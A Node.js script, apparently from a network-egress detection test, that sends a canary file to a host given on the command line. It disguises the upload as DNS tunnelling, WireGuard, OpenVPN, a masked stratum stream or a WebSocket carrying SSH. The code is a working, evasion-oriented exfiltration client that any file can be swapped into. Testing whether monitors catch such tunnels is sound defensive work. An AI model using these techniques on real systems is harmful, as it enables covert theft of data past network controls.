// Carries canary.txt out by a bounded client of a tunnel's protocol: KIND HOST PORT. What it says is what such tunnels say first.

import { randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { lookup } from 'node:dns/promises';
import { readFileSync } from 'node:fs';
import { connect } from 'node:net';

const [kind, host, port] = process.argv.slice(2);
const secret = readFileSync('canary.txt');
const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));

/** @returns sends one datagram and waits for its answer, or a while */
async function datagrams() {
  const { address } = await lookup(host);
  const socket = createSocket('udp4');
  await new Promise((resolve) => socket.connect(Number(port), address, resolve));
  return (bytes) =>
    new Promise((resolve) => {
      const late = setTimeout(resolve, 500);
      socket.once('message', (answer) => {
        clearTimeout(late);
        resolve(answer);
      });
      socket.send(bytes);
    });
}

const label = (text) => Buffer.concat([Buffer.from([text.length]), Buffer.from(text)]);

const clients = {
  // as iodine and dnscat do: data in hexadecimal labels below one name, asked for as NULL
  async dns() {
    const ask = await datagrams();
    const text = secret.toString('hex');
    for (let n = 0; n < 60; n += 1) {
      const head = Buffer.from([n >> 8, n & 255, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
      const part = text.slice((n * 8) % text.length, ((n * 8) % text.length) + 8);
      const name = [label(`${n}-${part}`), label(randomBytes(14).toString('hex'))];
      const base = [label('t'), label('example'), label('com'), Buffer.from([0, 0, 10, 0, 1])];
      await ask(Buffer.concat([head, ...name, ...base]));
    }
  },
  async wireguard() {
    const ask = await datagrams();
    await ask(Buffer.concat([Buffer.from([1, 0, 0, 0]), randomBytes(144)]));
    await ask(Buffer.concat([Buffer.from([4, 0, 0, 0]), randomBytes(12), secret]));
  },
  async openvpn() {
    const ask = await datagrams();
    await ask(Buffer.concat([Buffer.from([0x38]), randomBytes(8), Buffer.alloc(5)]));
    await ask(Buffer.concat([Buffer.from([0x20]), randomBytes(8), secret]));
  },
  async stratum2() {
    const socket = connect({ host, port: Number(port), noDelay: true });
    socket.write(randomBytes(64));
    await new Promise((resolve) => {
      let got = 0;
      socket.on('data', (data) => {
        got += data.length;
        if (got >= 234) resolve();
      });
    });
    const mask = Buffer.from([...secret].map((byte, n) => byte ^ (89 * n + 41)));
    socket.write(Buffer.concat([randomBytes(22), mask]));
    await pause(1000);
  },
  async websocket() {
    const socket = connect({ host, port: Number(port), noDelay: true });
    socket.write(
      `GET /chat HTTP/1.1\r\nHost: ${host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\nSec-WebSocket-Version: 13\r\n\r\n`,
    );
    await new Promise((resolve) => socket.once('data', resolve));
    for (const text of [Buffer.from('SSH-2.0-client\r\n'), secret]) {
      const mask = randomBytes(4);
      const masked = Buffer.from([...text].map((byte, n) => byte ^ mask[n & 3]));
      socket.write(Buffer.concat([Buffer.from([0x82, 0x80 | text.length]), mask, masked]));
      await pause(200);
    }
    await pause(500);
  },
};

await clients[kind]();
process.exit(0);
